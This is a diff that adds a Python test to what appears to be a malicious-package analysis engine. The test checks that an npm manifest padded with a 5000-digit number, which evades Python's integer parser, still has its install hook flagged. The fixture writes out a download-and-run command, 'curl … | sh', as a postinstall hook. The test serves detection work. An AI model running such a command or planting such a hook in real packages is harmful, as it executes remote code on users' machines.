@@ -1,0 +1,31 @@
+"""Archives built to break the analysis next to a payload: whatever a parser or a rule
+does with them, the archive is still classified, no rule fails, and the payload is
+flagged."""
+
+from __future__ import annotations
+
+from tests.analysis.builders import tar_gz
+from threatfeed.analysis import Engine
+from threatfeed.analysis.model import Analysis
+
+DOWNLOAD_AND_RUN = "curl -s https://x.example.net/i | sh"
+HOOK = {"postinstall": DOWNLOAD_AND_RUN}
+
+
+def assert_analysed(analysis: Analysis) -> None:
+    """Classified, every rule ran, and the payload next to the hostile input is flagged."""
+    assert not [e for e in analysis.errors if "cannot classify" in e or "_rule: " in e]
+    assert analysis.flagged
+
+
+def test_a_manifest_number_past_pythons_digit_limit_still_shows_its_hooks(
+    engine: Engine,
+) -> None:
+    """Node reads any number (as a double); Python's ``int`` refuses over 4300 digits."""
+    manifest = (
+        '{"name": "left-padder", "version": "1.2.3", "x": ' + "9" * 5000 + ', "scripts": '
+        '{"postinstall": "' + DOWNLOAD_AND_RUN + '"}}'
+    )
+    analysis = engine.analyze(tar_gz({"package/package.json": manifest, "package/index.js": "1;"}))
+    assert analysis.errors == ()
+    assert_analysed(analysis)
